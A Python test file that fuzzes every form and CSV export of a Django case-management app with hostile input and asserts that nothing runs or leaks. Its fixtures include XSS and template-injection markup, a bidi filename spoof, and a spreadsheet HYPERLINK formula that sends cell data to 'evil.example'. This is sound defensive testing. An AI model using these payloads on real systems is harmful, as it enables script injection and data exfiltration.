"""Every field of every form of the desk filled with what is made to hurt: nothing runs, nothing breaks, nothing leaks.

The walk knows no page: it takes the list of addresses and whatever forms it finds on them. What runs in a real browser
is asked in `test_fuzz_browser.py`.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from django.urls import reverse
from tests.web.test_access_matrix import OF_A_CASE, OF_NONE

from support.cases import new_case
from support.page_forms import Form, Page
from support.web_case import Ids
from tocsin.access.dossier import get_dossier
from tocsin.actions.compose import compose
from tocsin.actions.deliver import Sent, deliver
from tocsin.actions.init import Office
from tocsin.actions.note import note
from tocsin.composing import parse_brief
from tocsin.domain import offices
from tocsin.exchange import offices_csv, outcome_csv, table_csv

RIGHT = {200, 204, 302, 400, 404, 409, 413}
MARKUP = (
    "\"'><planted onmouseover=planted()></textarea></option></select></title><script>planted()</script>"
    "<img src=x onerror=planted()><svg onload=planted()>javascript:planted(){{ 7|add:7 }}{% now 'Y' %}"
)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
CONTROL = "\x00\x01\x07\x08\x1b[31m\x7f\x85\u2028\u2029\ufeff\ufffe"
BIDI = "\u202egpj.exe\u202c\u2066\u0627\u0644\u0639\u200f\u061c\u2069"
KEPT = FORMULA + MARKUP + BIDI  # nothing in it that a field would refuse
WORDS = {
    "control": MARKUP + CONTROL,
    "long": "ы" * 20_000 + MARKUP,
    "blank": " \t\u00a0\u200b",
    "huge number": "9" * 400,
    "id": "A" * 22,
}


def addresses(ids: Ids) -> Iterator[str]:
    """Every page, those that leave the desk or speak to its scripts alone left out."""
    for name in sorted(OF_A_CASE.keys() | OF_NONE - {"lock", "unlock", "stay", "draft", "language", "begin"}):
        yield reverse(name, args=[OF_A_CASE[name](ids)] if name in OF_A_CASE else [])


def looked_at(answer: Any, what: str) -> Page:
    """An answer of the desk: no failure in it, and nothing that a browser would run."""
    assert answer.status_code in RIGHT, what
    page = Page(answer.content.decode() if "text/html" in answer.headers.get("Content-Type", "") else "")
    assert page.runs == [], what
    return page


def sendings(form: Form, words: str) -> Iterator[dict[str, str]]:
    """A form as each of its buttons sends it, and as nobody would."""
    for button in dict.fromkeys(form.buttons or [("", "")]):
        yield form.filled(words, button)
    for button in dict.fromkeys(form.buttons):
        yield form.forged(words) | dict([button] if button[0] else [])


def walk(browser: Any, ids: Ids, words: str) -> int:
    """Send every form of every page with these words; how many were sent."""
    sent = 0
    for where in addresses(ids):
        page = looked_at(browser.get(where), where)
        for name in sorted(page.asked):
            looked_at(browser.client.get(where, {name: words}), f"{where}?{name}")
        for form in page.sent():
            for fields in sendings(form, words):
                target = form.action or where
                ask = browser.client.get if form.method == "get" else browser.client.post
                looked_at(ask(target, fields), f"{target} of {where}: {sorted(fields)} {fields.get('do', '')}")
                sent += 1
    return sent


@pytest.mark.long
def test_nothing_typed_at_the_desk_runs_or_breaks(browser: Any, ids: Ids) -> None:
    planted = browser.room.run(lambda: plant(browser.room._office, ids, KEPT))
    shown = [looked_at(browser.get(where), where) for where in addresses(planted)]
    assert sum("<planted" in page.words for page in shown) > 15  # as words
    assert walk(browser, planted, KEPT) > 80
    for where in addresses(planted):  # what was kept of it does neither
        looked_at(browser.get(where), where)


@pytest.mark.long
@pytest.mark.parametrize("words", sorted(WORDS))
def test_nothing_else_that_is_typed_breaks(browser: Any, ids: Ids, words: str) -> None:
    assert walk(browser, ids, WORDS[words]) > 60


def plant(office: Office, ids: Ids, words: str) -> Ids:
    """A case in which everything that has a name bears these words, and a letter that says them."""
    case = new_case(office, words)
    person = case.add("person", name=words, occupation=words)
    case.agree(person, limits=words)
    place = case.add("place", name=words, point="46.4896,30.7419,40", precision="exact")
    told = {"type": "threat", "completion": "done", "place": place, "place_words": words, "attribution": words}
    event = case.add("event", date="2018-07-05", **told)
    case.more(event, date="2018-07-06")
    case.add("act", event=event, victim=person, type="threat", completion="done")
    case.add("person", name="Ilona Varga", birth="2031-01-01")  # something to ask about
    said = f"{words}\n\nOn 3 November 2025 two unknown men threatened the journalist {words} Velin in Brod."
    statement = note(office.viewer, case.id, said).statement
    body = case.add("group", name=words, public_body="true")
    proceeding = case.add("proceeding", type="asylum", person=person, body=body, number=words)
    letter, delivery = _letter(office, case.id, words)
    return replace(
        ids, case=case.id, person=person, event=event, statement=statement, to_review=statement, letter=letter,
        delivery=delivery, source=case.add("source", name=words), proceeding=proceeding,
        value=case.claims(person, "person.name")[0], mapped=case.id,
    )  # fmt: skip


def _letter(office: Office, case: str, words: str) -> tuple[str, str]:
    said = json.dumps(words, ensure_ascii=False)
    brief = (
        f"number = {said}\nposition = [{said}]\n[organisation]\nname = {said}\n[[addressees]]\nkey = 'one'\n"
        f"office = {said}\n[[demands]]\ntext = {said}\naddressees = ['one']\n"
    )
    letter = compose(office.viewer, case, parse_brief(brief)).intervention
    (addressee,) = get_dossier(office.viewer, case).of_kind("addressee")
    return letter, deliver(office.viewer, letter, addressee.id, Sent("email", "2020-09-13")).delivery


BYTES = [b"words=%ff%fe&title=%c3%28", b"\xff\xfe=\x00", b"=&&&=;%", b"card=1&card=2&do=accept&do=reject", b"a" * 3000]


@pytest.mark.long
@pytest.mark.parametrize("body", BYTES)
def test_bytes_that_are_no_form_break_nothing(browser: Any, ids: Ids, body: bytes) -> None:
    token = b"&token=" + browser.room._entrance.token.encode()
    for where in addresses(ids):
        kind = "application/x-www-form-urlencoded"
        looked_at(browser.client.post(where, body + token, content_type=kind), where)


def cells(table: bytes) -> list[str]:
    """Every cell of a table as a spreadsheet reads it."""
    return [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")) for cell in row]


@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\u200b", "\t", "\r\n", "\ufeff", "'"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b"])
def test_no_table_that_leaves_has_a_formula_in_a_cell(before: str, sign: str) -> None:
    cell = f'{before}{sign}HYPERLINK("http://evil.example")'
    for made in (
        table_csv.write_table([cell], [[cell, "plain"]]),
        offices_csv.write_offices([offices.Office(cell, cell, body=cell)]),
    ):
        assert [one for one in cells(made) if is_formula(one)] == []


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula."""
    return cell.lstrip(" \t\r\n\u00a0\u200b\ufeff").startswith(tuple("=+-@\uff1d\uff0b"))


def test_the_list_of_events_has_none_either(browser: Any, ids: Ids) -> None:
    planted = browser.room.run(lambda: plant(browser.room._office, ids, FORMULA))
    table = browser.post(f"/case/{planted.case}/events/csv").content
    assert any("HYPERLINK" in cell for cell in cells(table))
    assert [cell for cell in cells(table) if is_formula(cell)] == []


def test_every_table_is_written_by_these() -> None:
    """A third way to write one would be a third place to forget it."""
    assert outcome_csv.write_table is table_csv.write_table
